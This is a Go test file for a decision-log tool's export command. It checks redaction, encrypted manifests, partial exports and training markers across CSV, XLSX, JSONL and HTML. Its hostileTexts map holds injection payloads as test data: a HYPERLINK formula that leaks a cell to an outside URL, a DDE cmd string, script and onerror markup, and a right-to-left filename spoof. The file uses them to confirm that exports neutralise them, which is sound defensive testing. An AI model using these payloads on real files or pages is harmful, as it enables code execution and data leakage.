package cmd

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"io"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"dsa/decision"
	"dsa/decision/cases"
	"dsa/decision/export"
	"dsa/decision/logbook"

	"filippo.io/age"
	"github.com/xuri/excelize/v2"
)

// decides records another decision like the one given, as it is after an edit.
func decides(t *testing.T, app *App, like filed, edit func(*decision.Record)) logbook.Entry {
	t.Helper()
	body, err := decision.EncodeBody(like.record)
	record := new(decision.Record)
	if err = errors.Join(err, decision.DecodeBody(body, record)); err != nil {
		t.Fatal(err)
	}
	edit(record)
	if body, err = decision.EncodeBody(record); err != nil {
		t.Fatal(err)
	}
	return recordsBody(t, app, record.By, body)
}

// recordsBody signs and records a body as a decision, whatever is in it.
func recordsBody(t *testing.T, app *App, by decision.Person, body []byte) logbook.Entry {
	t.Helper()
	d, err := app.desk(t.Context(), "")
	if err != nil {
		t.Fatal(err)
	}
	defer d.close()
	if _, err := d.chain(t.Context(), by, app.Now()); err != nil {
		t.Fatal(err)
	}
	entry, err := d.record(t.Context(), logbook.Act{Time: app.Now(), Kind: decision.Decision, KeepUntil: decision.Permanent, Body: body})
	if err != nil {
		t.Fatal(err)
	}
	return entry
}

// answer sets what was typed at a question.
func answer(d *decision.Record, id, text string) {
	for i := range d.Questions {
		for j := range d.Questions[i].Answers {
			if a := &d.Questions[i].Answers[j]; a.ID == id && a.Group == "" {
				a.Text = text
			}
		}
	}
}

// rowsOf are the rows of a CSV export, by the names of the columns.
func rowsOf(t *testing.T, content []byte) (rows []map[string]string) {
	t.Helper()
	all, err := csv.NewReader(bytes.NewReader(content)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, cells := range all[1:] {
		row := map[string]string{}
		for i, c := range cells {
			row[all[0][i]] = c
		}
		rows = append(rows, row)
	}
	return rows
}

var rowForms = []string{"csv", "xlsx", "jsonl", "html"}

// A decision is one row, whatever follows it and wherever that lies; and from JSON Lines every record of it can be had
// again as it was signed.
func TestRowsHaveWhatFollowed(t *testing.T) {
	author, first := decided(t)
	put(t, author, "", decision.Review, first, nil)
	ann := somebody(t, "ann")
	put(t, ann, "", decision.Endorse, first, as("Ann", "ann@fenmarsh.example"))
	logs := []string{"--log", author.logFolder(""), "--log", ann.logFolder("")}

	content, said := exports(t, author, codeDone, filepath.Join(t.TempDir(), "all.csv"), logs...)
	rows := rowsOf(t, content)
	if len(rows) != 1 {
		t.Fatalf("there are %d rows\n%s", len(rows), said)
	}
	for column, want := range map[string]string{"id": first.entry.ID.String(), "outcome": "share-part", "reference": "HL-4471", "reviews": "1", "review_result": "stands", "endorsed": "1", "standing": "live"} {
		if rows[0][column] != want {
			t.Errorf("%s is %q, want %q", column, rows[0][column], want)
		}
	}
	if !strings.Contains(said, "Written: 1 decision\n") || !strings.Contains(said, "Warning: it is NOT encrypted") {
		t.Errorf("it says:\n%s", said)
	}

	lines, _ := exports(t, author, codeDone, filepath.Join(t.TempDir(), "all.jsonl"), logs...)
	var row struct {
		ID      string `json:"id"`
		Records []struct{ ID, Kind, File, Page string }
	}
	if err := json.Unmarshal(lines, &row); err != nil {
		t.Fatal(err)
	}
	var kinds []string
	for _, r := range row.Records {
		kinds = append(kinds, r.Kind)
		at, err := os.ReadFile(filepath.Join(author.logFolder(""), filepath.FromSlash(r.File)))
		if err != nil {
			at, err = os.ReadFile(filepath.Join(ann.logFolder(""), filepath.FromSlash(r.File)))
		}
		if err != nil || string(at) != r.Page {
			t.Errorf("%s is not the file that was signed (%v)", r.File, err)
		}
		name := filepath.Join(t.TempDir(), filepath.Base(r.File))
		if err := os.WriteFile(name, []byte(r.Page), 0o600); err != nil {
			t.Fatal(err)
		}
		app, _, said := newTestApp(t, "")
		if code := Main(app, []string{"verify", name}); code != codeDone {
			t.Errorf("%s: exit code %d\n%s", name, code, said)
		}
	}
	slices.Sort(kinds)
	if want := []string{"decision", "endorse", "review"}; !slices.Equal(kinds, want) || row.ID != first.entry.ID.String() {
		t.Errorf("the line has the records %v of %s", kinds, row.ID)
	}
	// Whoever chooses columns does not send everything along.
	some, said := exports(t, author, codeDone, filepath.Join(t.TempDir(), "some.jsonl"), "--fields", "id,outcome")
	if string(some) != `{"id":"`+first.entry.ID.String()+`","outcome":"share-part"}`+"\n" || !strings.Contains(said, "The signed records are not in it") {
		t.Errorf("it has %s\n%s", some, said)
	}
}

// What a person typed, or is called, is nowhere in a redacted export, nor in its manifest.
func TestARedactedExportHasNothingThatWasTyped(t *testing.T) {
	author, first := decided(t)
	const typed = "Zebedee"
	mark := func(s *string) {
		if *s != "" {
			*s = typed + " " + *s
		}
	}
	decides(t, author, first, func(d *decision.Record) {
		for _, s := range []*string{&d.By.Name, &d.By.Post, &d.By.Organisation, &d.By.Sector.ID, &d.By.Sector.Words, &d.Agreement.Title, &d.Agreement.Version, &d.Checklist.Title} {
			mark(s)
		}
		for i := range d.Questions {
			for j := range d.Questions[i].Answers {
				a := &d.Questions[i].Answers[j]
				mark(&a.Text)
				for k := range a.Chosen {
					mark(&a.Chosen[k].Words)
					if a.ID != "outcome" {
						mark(&a.Chosen[k].ID) // as only a record from elsewhere could have it
					}
				}
			}
		}
		for i := range d.Findings {
			mark(&d.Findings[i].Code)
			mark(&d.Findings[i].Reply)
		}
		for i := range d.Law.Relied {
			mark(&d.Law.Relied[i].ID)
			mark(&d.Law.Relied[i].Effect)
			mark(&d.Law.Relied[i].Citation)
		}
	})
	dir := t.TempDir()
	args := []string{"--redacted", "--organisation", typed, "--case", typed}
	for _, form := range rowForms {
		to := filepath.Join(dir, "all."+form)
		content, _ := exports(t, author, codeDone, to, args...)
		if form == "xlsx" {
			content = unpacked(t, content)
		}
		about, err := os.ReadFile(to + export.ManifestSuffix)
		if err != nil {
			t.Fatal(err)
		}
		for where, text := range map[string][]byte{form: content, "the manifest of " + form: about} {
			for _, never := range []string{typed, author.Home, "HL-4471", "Harbour Lane", "sam.okafor"} {
				if bytes.Contains(text, []byte(never)) {
					t.Errorf("%s has %q in it", where, never)
				}
			}
		}
		if !bytes.Contains(about, []byte("\ndecisions 1\n")) || !bytes.Contains(about, []byte("asked more that is left out here")) {
			t.Errorf("the manifest is\n%s", about)
		}
	}
	whole, _ := exports(t, author, codeDone, filepath.Join(dir, "whole.csv"), args[1:]...)
	if !bytes.Contains(whole, []byte(typed)) {
		t.Error("it would not be in one that is not redacted either")
	}
}

// What lies in a log by mistake can be called after somebody: a redacted export counts it and does not name it.
func TestARedactedExportNamesNoStrayFile(t *testing.T) {
	author, first := decided(t)
	log := author.logFolder("")
	const typed = "Zebedee"
	chain := filepath.Join(log, decision.ChainFolder(first.entry.Chain))
	damaged := filepath.Join(log, filepath.FromSlash(first.entry.Path))
	content, err := os.ReadFile(damaged)
	if err = errors.Join(err, os.WriteFile(damaged, bytes.ReplaceAll(content, []byte("Harbour"), []byte("Marbour")), 0o600),
		os.WriteFile(filepath.Join(log, "Letter about "+typed+".txt"), nil, 0o600),
		os.WriteFile(filepath.Join(chain, "0000", "0000002 "+typed+".record.txt"), nil, 0o600),
		os.Mkdir(filepath.Join(chain, typed), 0o700)); err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	for _, form := range rowForms {
		to := filepath.Join(dir, "all."+form)
		content, said := exports(t, author, codeFound, to, "--redacted")
		if form == "xlsx" {
			content = unpacked(t, content)
		}
		about, err := os.ReadFile(to + export.ManifestSuffix)
		if err != nil {
			t.Fatal(err)
		}
		if bytes.Contains(content, []byte(typed)) || bytes.Contains(about, []byte(typed)) {
			t.Errorf("%s names it; the manifest is\n%s", form, about)
		}
		if !bytes.Contains(about, []byte("\nfaults 4\n")) || bytes.Count(about, []byte("\nfault a name that is left out here: stray: ")) != 3 ||
			!bytes.Contains(about, []byte("\nfault "+first.entry.Path+" ")) {
			t.Errorf("%s: the manifest is\n%s", form, about)
		}
		if !strings.Contains(said, typed) {
			t.Errorf("whoever asked is not told which file it is:\n%s", said)
		}
	}
}

// unpacked is everything in a workbook.
func unpacked(t *testing.T, content []byte) []byte {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(content), int64(len(content)))
	if err != nil {
		t.Fatal(err)
	}
	var all []byte
	for _, f := range z.File {
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		text, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		all = append(all, text...)
	}
	return all
}

// hostileTexts are what a record can hold that somebody wrote to do harm.
var hostileTexts = map[string]string{
	"a formula":       `=HYPERLINK("http://example.org/?"&A1,"look")`,
	"a command":       "fine;=cmd|' /C calc'!A0\n-2+3",
	"markup":          `</td></table><script>document.title='ran'</script><img src=x onerror="document.title='ran'">`,
	"turned round":    "invoice\u202efdp.exe \u2067x",
	"escape codes":    "\x1b[2J\x1b]0;title\x07red",
	"nothing":         "a\x00b",
	"no sign":         "a\uffffb\u2028c",
	"an escape":       "_x0041_ _x000D_ &amp; ]]>",
	"a row":           "x\",\"y\"\r\nid,number\r\n=1+1",
	"over each other": "Z" + strings.Repeat("\u0301\u0316", 300),
	"very long":       strings.Repeat("A long text. ", 60_000),
}

// hostileLog is somebody's log with a decision for each of these texts.
func hostileLog(t *testing.T) (*App, []logbook.Entry) {
	t.Helper()
	author, first := decided(t)
	var entries []logbook.Entry
	for _, says := range slices.Sorted(maps.Keys(hostileTexts)) {
		text := hostileTexts[says]
		entries = append(entries, decides(t, author, first, func(d *decision.Record) {
			answer(d, "reasons", text)
			answer(d, "purpose", string([]rune(text)[:min(len([]rune(text)), 2000)]))
			// What stands in one line cannot be of any length.
			short := string([]rune(text)[:min(len([]rune(text)), 100)])
			answer(d, "case-reference", short)
			d.By.Name, d.By.Organisation = short, short
			for i := range d.Questions {
				for j := range d.Questions[i].Answers {
					if a := &d.Questions[i].Answers[j]; a.ID == "told" && len(a.Chosen) > 0 {
						a.Chosen[0].ID = short
					}
				}
			}
		}))
	}
	return author, entries
}

// No record stops an export, and nothing in one runs, in any form.
func TestHostileRecordsAreExported(t *testing.T) {
	author, entries := hostileLog(t)
	dir := t.TempDir()
	if keep := os.Getenv("DSA_READERS"); keep != "" {
		dir = keep // for .ci/readers, which has other programs look at them
	}
	for _, form := range rowForms {
		content, said := exports(t, author, codeDone, filepath.Join(dir, "hostile."+form))
		if !strings.Contains(said, "Written: 12 decisions\n") || strings.ContainsAny(said, "\x1b\u202e\x00") {
			t.Errorf("%s: it says\n%s", form, said)
		}
		switch form {
		case "csv":
			rows := rowsOf(t, content)
			for i, says := range slices.Sorted(maps.Keys(hostileTexts)) {
				reasons := rows[i+1]["reasons"]
				if rows[i+1]["id"] != entries[i].ID.String() || strings.ContainsAny(reasons, "\x00\x1b\u202e") || strings.HasPrefix(reasons, "=") || len(reasons) > 33_000 {
					t.Errorf("%s: the row has %.100q", says, reasons)
				}
				if rows[i+1]["told"] != "(not an id)" && strings.ContainsAny(rows[i+1]["told"], "=<\x00") {
					t.Errorf("%s: what is no id stands as %q", says, rows[i+1]["told"])
				}
			}
		case "xlsx":
			book, err := excelize.OpenReader(bytes.NewReader(content))
			if err != nil {
				t.Fatal(err)
			}
			rows, err := book.GetRows("Decisions")
			if err != nil || len(rows) != 13 {
				t.Errorf("there are %d rows (%v)", len(rows), err)
			}
			if bytes.Contains(unpacked(t, content), []byte("<f>")) {
				t.Error("there is a formula in it")
			}
		case "jsonl":
			for i, line := range bytes.Split(bytes.TrimSpace(content), []byte("\n"))[1:] {
				var row struct{ Reasons string }
				says := slices.Sorted(maps.Keys(hostileTexts))[i]
				if err := json.Unmarshal(line, &row); err != nil || row.Reasons != hostileTexts[says] {
					t.Errorf("%s: comes back as %.100q (%v)", says, row.Reasons, err)
				}
			}
		case "html":
			if bytes.Contains(content, []byte("<script")) || bytes.Contains(content, []byte("<img")) {
				t.Error("there is markup in it")
			}
		}
	}
}

// A record that is not as this program writes it, such as one with half a sign of UTF-16 in it, is left out and listed:
// on the screen, in the manifest and in the file; all others go.
func TestARecordThatFailsIsListed(t *testing.T) {
	author, first := decided(t)
	body, err := decision.EncodeBody(first.record)
	if err != nil {
		t.Fatal(err)
	}
	bad := recordsBody(t, author, first.record.By, bytes.Replace(body, []byte("Harbour Lane"), []byte(`\ud800arbour Lane`), 1))
	good := decides(t, author, first, func(d *decision.Record) { answer(d, "reasons", "Another.") })
	for _, form := range rowForms {
		to := filepath.Join(t.TempDir(), "all."+form)
		content, said := exports(t, author, codeFound, to)
		if form == "xlsx" {
			content = unpacked(t, content)
		}
		name := filepath.Base(bad.Path)
		about, err := os.ReadFile(to + export.ManifestSuffix)
		if err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(said, "FAULT bad-body: ") || !strings.Contains(said, name) || !strings.Contains(said, "Written: 2 decisions\n") {
			t.Errorf("%s: it says\n%s", form, said)
		}
		if !bytes.Contains(about, []byte(name+" ")) && !bytes.Contains(about, []byte(name+":")) || !bytes.Contains(about, []byte("\nfaults 1\n")) {
			t.Errorf("%s: the manifest is\n%s", form, about)
		}
		if (form == "xlsx" || form == "html") && !bytes.Contains(content, []byte(name)) {
			t.Errorf("%s does not name it", form)
		}
		if !bytes.Contains(content, []byte(good.ID.String()[:decision.ShownDigits])) || bytes.Contains(content, []byte(bad.ID.String()[:decision.ShownDigits]+"<")) {
			t.Errorf("%s has other rows than the good ones", form)
		}
	}
}

// Who has the key has the export and its manifest; the manifest knows the file before and after it is opened.
func TestAnEncryptedExportHasAnEncryptedManifest(t *testing.T) {
	author, _ := decided(t)
	own, err := age.GenerateX25519Identity()
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	to := filepath.Join(dir, "all.csv.age")
	locked, said := exports(t, author, codeDone, to, "--case", "HL-4471", "--sign", "--encrypt-to", own.Recipient().String())
	if strings.Contains(said, "NOT encrypted") || !strings.Contains(said, "Encrypted to: "+own.Recipient().String()) {
		t.Errorf("it says\n%s", said)
	}
	names, _ := filepath.Glob(filepath.Join(dir, "*"))
	if want := []string{to, filepath.Join(dir, "all.csv.manifest.txt.age")}; !slices.Equal(names, want) {
		t.Fatalf("there are %v", names)
	}
	about, err := os.ReadFile(names[1])
	if err != nil || bytes.Contains(about, []byte("HL-4471")) || bytes.Contains(locked, []byte("HL-4471")) {
		t.Errorf("something can be read without a key (%v)", err)
	}
	opened := func(content []byte) []byte {
		r, err := age.Decrypt(bytes.NewReader(content), own)
		if err != nil {
			t.Fatal(err)
		}
		plain, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		return plain
	}
	manifest := filepath.Join(dir, "all.csv.manifest.txt")
	if err := os.WriteFile(manifest, opened(about), 0o600); err != nil {
		t.Fatal(err)
	}
	verify := func(code int, want string) {
		t.Helper()
		app, out, said := newTestApp(t, "")
		if got := Main(app, []string{"verify", manifest}); got != code || !strings.Contains(out.String()+said.String(), want) {
			t.Errorf("exit code %d, want %d with %q\n%s%s", got, code, want, out, said)
		}
	}
	verify(codeDone, "Export: all.csv.age\n")
	// Somebody opens the export and throws the sealed one away.
	if err := errors.Join(os.Remove(to), os.WriteFile(filepath.Join(dir, "all.csv"), opened(locked), 0o600)); err != nil {
		t.Fatal(err)
	}
	verify(codeDone, "Export: all.csv\n")
	if err := os.WriteFile(filepath.Join(dir, "all.csv"), append(opened(locked), '\n'), 0o600); err != nil {
		t.Fatal(err)
	}
	verify(codeFound, "all.csv is not the file that the manifest was made for")
	if err := os.Remove(filepath.Join(dir, "all.csv")); err != nil {
		t.Fatal(err)
	}
	verify(codeCould, "the export is not beside its manifest")
	changed := bytes.Replace(opened(about), []byte("\ndecisions 1\n"), []byte("\ndecisions 2\n"), 1)
	if err := os.WriteFile(manifest, changed, 0o600); err != nil {
		t.Fatal(err)
	}
	verify(codeFound, "has changed since it was signed")
}

// Parts have every decision once, and what is stopped leaves nothing.
func TestPartsAndStops(t *testing.T) {
	author, first := decided(t)
	for range 9 {
		decides(t, author, first, func(d *decision.Record) { d.Salt, _ = decision.NewSalt(author.Rand) })
	}
	met := map[string]int{}
	for _, part := range []string{"1/3", "2/3", "3/3"} {
		to := filepath.Join(t.TempDir(), "all.csv")
		content, _ := exports(t, author, codeDone, to, "--part", part, "--fields", "id")
		for _, row := range rowsOf(t, content) {
			met[row["id"]]++
		}
		about, err := os.ReadFile(to + export.ManifestSuffix)
		if err != nil || !bytes.Contains(about, []byte("\npart "+strings.Replace(part, "/", " of ", 1)+"\n")) {
			t.Errorf("the manifest is\n%s", about)
		}
	}
	if len(met) != 10 || slices.Max(slices.Collect(maps.Values(met))) != 1 {
		t.Errorf("the parts have %v", met)
	}
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "all.csv.manifest.txt"), nil, 0o600); err != nil {
		t.Fatal(err)
	}
	if content, said := exports(t, author, codeCould, filepath.Join(dir, "all.csv")); content != nil || !strings.Contains(said, "there is something of that name already") {
		t.Errorf("something was written over a manifest\n%s", said)
	}
	// Whoever stops it has nothing of it.
	ctx, stop := context.WithCancel(t.Context())
	stop()
	empty := t.TempDir()
	err := runRows(ctx, author, nil, exportOptions{to: filepath.Join(empty, "all.csv"), as: "csv", rowOptions: rowOptions{columns: cases.Columns()}})
	if left, _ := filepath.Glob(filepath.Join(empty, "*")); explain(err).code != codeStopped || len(left) > 0 {
		t.Errorf("stopped, it says %v and leaves %v", err, left)
	}
	if content, said := exports(t, author, codeCould, filepath.Join(author.logFolder(""), "all.csv")); content != nil || !strings.Contains(said, "no place in a log itself") {
		t.Errorf("something was written into a log\n%s", said)
	}
}

// Exercises are left out, and where they were asked for every row of one says so, whatever columns were chosen.
func TestExercisesSayTRAINING(t *testing.T) {
	author, _ := decided(t)
	dir := filepath.Join(t.TempDir(), "exercises")
	made := caseLog{Records: 20, Chains: 1, Training: true}.write(t, dir)
	logs := []string{"--log", author.logFolder(""), "--log", dir, "--fields", "outcome"}
	without, words := exports(t, author, codeDone, filepath.Join(t.TempDir(), "all.csv"), logs...)
	if string(without) != "outcome\r\nshare-part\r\n" || !strings.Contains(words, count(made.Decisions, "exercise")+" are left out; --training takes exercises too") {
		t.Errorf("it has %q\n%s", without, words)
	}
	for _, form := range rowForms {
		content, words := exports(t, author, codeDone, filepath.Join(t.TempDir(), "all."+form), append(logs, "--training")...)
		rows := bytes.Count(content, []byte("TRAINING"))
		switch form {
		case "xlsx":
			rows = bytes.Count(unpacked(t, content), []byte(">TRAINING</t>"))
		case "html":
			rows = bytes.Count(content, []byte(`<tr class="exercise"><th scope="row">TRAINING</th>`))
		}
		if rows != made.Decisions || !strings.Contains(words, "marked TRAINING") {
			t.Errorf("%s says TRAINING in %d rows, and there are %d exercises\n%s", form, rows, made.Decisions, words)
		}
	}
}
